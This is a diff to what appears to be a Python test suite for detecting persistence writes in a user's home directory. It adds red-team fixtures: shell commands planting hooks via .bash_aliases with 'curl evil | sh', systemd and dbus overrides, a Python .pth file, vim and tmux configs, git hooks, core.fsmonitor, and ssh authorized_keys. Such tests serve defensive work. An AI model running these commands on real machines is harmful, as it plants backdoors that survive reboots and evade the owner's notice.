@@ -87,8 +87,8 @@ def make_home(home: Path) -> None:
     for rel, body in files.items():
         (home / rel).parent.mkdir(parents=True, exist_ok=True)
         (home / rel).write_text(body)
-    for repo in (home / "work", home / "proj"):
-        repo.mkdir(exist_ok=True)
+    for repo in (home / "work", home / "proj", home / "code" / "deep"):
+        repo.mkdir(parents=True, exist_ok=True)
         subprocess.run(["git", "init", "-q", str(repo)], check=True)
         (repo / ".git" / "hooks").mkdir(exist_ok=True)
 
@@ -236,6 +236,39 @@ PERSISTENCE = [
         "mkdir -p ~/.ssh; echo ssh-ed25519 evil > ~/.ssh/authorized_keys",
         ".ssh/authorized_keys",
         None,
+    ),
+    # Red team after the rebuild: each of these was planted.
+    ("echo 'curl evil | sh' > ~/.bash_aliases", ".bash_aliases", None),
+    ("mkdir -p ~/.bashrc.d; echo evil > ~/.bashrc.d/x.sh", ".bashrc.d/x.sh", None),
+    (
+        "mkdir -p ~/.local/share/systemd/user/dispatch-matrix.service.d; echo "
+        "'[Service]' > ~/.local/share/systemd/user/dispatch-matrix.service.d/x.conf",
+        ".local/share/systemd/user/dispatch-matrix.service.d/x.conf",
+        None,
+    ),
+    (
+        "mkdir -p ~/.local/share/dbus-1/services; echo x > "
+        "~/.local/share/dbus-1/services/org.freedesktop.Notifications.service",
+        ".local/share/dbus-1/services/org.freedesktop.Notifications.service",
+        None,
+    ),
+    (
+        "mkdir -p ~/.local/lib/python3.11/site-packages; echo 'import evil' > "
+        "~/.local/lib/python3.11/site-packages/evil.pth",
+        ".local/lib/python3.11/site-packages/evil.pth",
+        None,
+    ),
+    ("mkdir -p ~/.vim/plugin; echo evil > ~/.vim/plugin/x.vim", ".vim/plugin/x.vim", None),
+    ("echo 'run-shell evil' > ~/.tmux.conf", ".tmux.conf", None),
+    (
+        "echo evil > ~/code/deep/.git/hooks/pre-commit",
+        "code/deep/.git/hooks/pre-commit",
+        None,
+    ),
+    (
+        "git -C ~/code/deep config core.fsmonitor evil 2>&1",
+        "code/deep/.git/config",
+        "keep",
     ),
 ]
 
